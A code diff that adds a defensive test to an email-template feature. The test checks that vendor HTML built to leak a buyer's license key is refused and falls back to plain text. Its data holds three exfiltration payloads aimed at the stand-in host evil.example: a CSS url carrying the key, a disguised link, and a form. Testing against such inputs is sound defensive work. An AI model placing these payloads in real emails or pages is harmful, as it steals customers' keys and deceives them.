@@ -344,6 +344,28 @@ describe('where anyone can register', () => {
     const honest = '<a href="https://shop.bank.example/a">bank.example</a> <a href="{page}">Open</a> {key}'
     expect((await owner.call('PUT', `/apps/${app._id}/mail`, { ...mail, html: honest })).status).toBe(200)
   })
+
+  test.each([
+    ['a key in the address of a picture', '<style>p { background: url(//evil.example/{key}) }</style>{key}'],
+    [
+      'a link to another address',
+      '<a data-href="https://bank.example" href="//evil.example">bank.example</a>{key}',
+    ],
+    ['a form', '<form action="//evil.example"><textarea name="k">{key}</textarea></form>'],
+  ])('sends the text alone of HTML that was saved before %s was refused', async (_what, html) => {
+    const { owner, app, sell: buy } = await newVendor()
+    const mail = { subject: 'Key', text: 'Text {key}', html: 'HTML {key}' }
+    expect(refusal(await owner.call('PUT', `/apps/${app._id}/mail`, { ...mail, html }))).toBe('invalid_input')
+    await owner.call('PUT', `/apps/${app._id}/mail`, mail)
+    const [first, second] = [newBuyer(), newBuyer()]
+    await buy('H-1', { email: first })
+    await orderOnce(owner, 'H-1', { mail: 'sent' })
+    await on.database.db.updateTable('app_mails').set({ html }).where('app_id', '=', app._id).execute()
+    await buy('H-2', { email: second })
+    await orderOnce(owner, 'H-2', { mail: 'sent' })
+    const shown = [first, second].map((email) => /text\/html/.test(textsTo(sink, email).join()))
+    expect(shown).toEqual([true, false])
+  })
 })
 
 describe('mailing again', () => {
